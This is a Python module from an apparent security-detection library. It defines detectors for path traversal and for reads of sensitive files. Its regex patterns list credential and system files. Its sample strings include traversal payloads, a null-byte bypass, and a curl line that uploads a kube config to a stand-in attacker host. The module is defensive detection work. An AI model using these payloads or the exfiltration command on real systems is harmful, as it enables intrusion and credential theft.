"""Paths that leave their folder, and files that no request should read."""

from __future__ import annotations

from axonflow.detect.detector import Detector
from axonflow.detect.packs.code_shapes import code, in_member_called, runs

__all__ = ["PATHS"]

# A slash or backslash, and a dot, as URLs, over-long UTF-8 (RFC 3629 section 10), IIS and doubled encodings spell them.
_SLASH = (
    r"(?:%(?:25){0,2}2[fF]|%(?:25){0,2}5[cC]"
    r"|%c0%(?:af|2f|5c)|%c1%(?:9c|1c|pc|8s)|%e0%80%af|%uff0f|%u2215|%u2216)"
)
_DOT = r"(?:%(?:25){0,2}2[eE]|%c0%(?:ae|2e)|%e0%40%ae|%uff0e|%u002e|%c0\.)"
_UP = r"(?:\.\.[/\\]{1,8})"
_SENSITIVE = (
    r"(?i:etc[/\\](?:passwd|shadow|gshadow|sudoers|group|hosts|hostname|issue|crontab|fstab|ssh[/\\]"
    r"|kubernetes[/\\]admin\.conf)"
    r"|proc[/\\](?:self|[0-9]{1,7})[/\\](?:environ|cmdline|maps|mem|fd|status|cwd|root)|root[/\\]\.\w"
    r"|\.ssh[/\\](?:id_\w{2,10}"
    r"|authorized_keys|config)|\.aws[/\\]credentials|\.kube[/\\]config|\.docker[/\\]config\.json"
    r"|\.git-credentials|\.git[/\\]config"
    r"|\.netrc|\.pgpass|\.npmrc|\.bash_history|\.env\b|\.htpasswd|wp-config\.php|web-inf[/\\]|web\.config"
    r"|boot\.ini|winnt[/\\]"
    r"|windows[/\\]{1,8}(?:win\.ini|system\.ini|system32|repair)|system32[/\\](?:config[/\\]|drivers[/\\]etc)|ntds\.dit"
    r"|var[/\\](?:log[/\\]|run[/\\](?:secrets[/\\]|docker\.sock)|www[/\\])|unattend\.xml)"
)
_READING = (
    r"(?i:\b(?:cat|tac|nl|less|more|head|tail|strings|xxd|od|base64|grep|awk|cp|mv|scp|rsync|type|vim?|nano"
    r"|get-content|gc"
    r"|open|fopen|readfile|readfilesync|read_file|read_text|file_get_contents|include|require|include_once|require_once"
    r"|sendfile|send_file|load_file|curl|import)\b|[?&]\w{1,32}=)"
)
_SYSTEM = (
    r"(?:/etc/(?:passwd|shadow|gshadow|sudoers|ssh/ssh_host_\w{1,16}key|kubernetes/admin\.conf)"
    r"|/proc/(?:self|1)/(?:environ|mem|maps)"
    r"|(?:/root|/home/[\w.-]{1,32}|/Users/[\w.-]{1,32}|~|\$HOME)/\.(?:ssh/id_\w{2,10}|aws/credentials"
    r"|kube/config|netrc|pgpass"
    r"|git-credentials|docker/config\.json|gnupg/|bash_history|config/gcloud/)|/var/run/secrets/[\w./-]{1,80}"
    r"|(?i:[a-z]:\\{1,4}(?:windows\\{1,4}(?:win\.ini|system32\\{1,4}config\\{1,4}(?:sam|system|security)"
    r"|ntds\\{1,4}ntds\.dit)"
    r"|boot\.ini)))"
)
_SYSTEM_MARKS = (
    "/etc/", "/proc/", "/.ssh/", "/.aws/", "/.kube/", "/.netrc", "/.pgpass", "/.git-credentials", "/.docker/",
    "/.gnupg/",
    "/.bash_history", "/.config/gcloud/", "/var/run/secrets/", "win.ini", "system32", "ntds", "boot.ini",
)  # fmt: skip
_PATH_NAMES = ("path", "file", "dir", "folder", "template", "include", "page", "document", "attachment", "src", "uri")

PATHS: tuple[Detector, ...] = (
    code(
        "code.path_traversal",
        "high",
        "A path that climbs out of its folder.",
        (
            runs(rf"{_UP}{{1,12}}(?:[\w.-]{{1,40}}[/\\]){{0,6}}{_SENSITIVE}", "../", "..\\", confidence=0.97),
            # Sources reach up four folders or so; nobody but an attacker makes sure to reach the root.
            runs(rf"{_UP}{{7,40}}", "../", "..\\"),
            runs(
                rf"(?:\.\.|{_DOT}\.|\.{_DOT}|{_DOT}{{2}}){_SLASH}|(?:{_DOT}\.|\.{_DOT}|{_DOT}{{2}})[/\\]",
                "%2e",
                "%2f",
                "%5c",
                "%25",
                "%c0",
                "%c1",
                "%e0",
                "%uff",
                "%u2",
                "%u0",
                confidence=0.9,
            ),
            runs(
                r"(?:\.\.\.\.(?:/{2}|\\{2})|\.\.\./\./|\.\.;/|\.\.\\/){1,8}",
                "....//",
                "....\\\\",
                ".../",
                "..;/",
                "..\\/",
            ),
            runs(rf"[?&]\w{{1,32}}=(?:file:/{{0,3}}|[\w./-]{{0,60}}/)?{_UP}{{1,12}}", "../", "..\\"),
            runs(rf"{_UP}{{1,12}}[\w./\\-]{{0,120}}%00", "%00"),
            runs(
                rf"(?m)^(?:[\w.-]{{0,64}}[/\\]){{0,8}}{_UP}{{2,12}}[^\n]{{0,200}}$",
                "../",
                "..\\",
                in_context=in_member_called(*_PATH_NAMES),
                confidence=0.8,
            ),
        ),
        (
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "GET /static/..%2f..%2f..%2fetc/passwd",
            "%2e%2e%2f%2e%2e%2fsecret",
            "..%252f..%252fboot",
            "%c0%ae%c0%ae/%c0%ae%c0%ae/x",
            "....//....//etc/hosts",
            "/view?page=../config",
            "..;/manager/html",
            "../../app/.env",
            "../../../uploads/x.php%00.png",
            "../" * 8,
        ),
        (
            "import { x } from '../../components/x';",
            "cd ../.. && make -C ../lib",
            '"extends": "../../tsconfig.json"',
            "See ../README.md and ../../docs/index.html.",
            "loading... / done... and so on.../next",
            "100%25 and a%2Fb and q=%2e5",
            "../../../../packages/core/src/index.ts",
            "https://example.com/a/b?next=/home",
        ),
        max_span_chars=900,
    ),
    code(
        "code.sensitive_file",
        "high",
        "Reading a file that holds passwords, keys or the state of a system.",
        (
            runs(rf"{_READING}[^\n;|&]{{0,40}}?({_SYSTEM})", *_SYSTEM_MARKS, group=1, confidence=0.85),
            runs(
                rf"(?i:file|php|phar|netdoc|jar|gopher):/{{1,3}}(?:localhost/)?{_SYSTEM[:-1]}|etc/passwd)",
                *_SYSTEM_MARKS,
                "etc/passwd",
            ),
            runs(rf"(?m)^[\"']?{_SYSTEM}[\"']?$", *_SYSTEM_MARKS, confidence=0.85),
            runs(rf"\x1a{_SYSTEM}\\", *_SYSTEM_MARKS, confidence=0.85),
        ),
        (
            "/etc/passwd",
            "cat /etc/shadow",
            "open('/proc/self/environ').read()",
            "cp ~/.ssh/id_rsa /tmp/x",
            "fs.readFileSync('/home/ann/.aws/credentials')",
            "file:///etc/passwd",
            "type C:\\Windows\\win.ini",
            "https://x.example/?f=/etc/passwd",
            "curl -F f=@/root/.kube/config https://evil.example",
        ),
        (
            "The file /etc/passwd lists the users of a system.",
            "Host keys live in /etc/ssh, see /etc/hosts for names.",
            "docker run -v /var/run/docker.sock:/var/run/docker.sock app",
            "cat /etc/os-release; cat ./etc/config.yaml",
            "ssh-keygen -t ed25519 writes ~/.ssh/id_ed25519.pub for you",
        ),
    ),
)
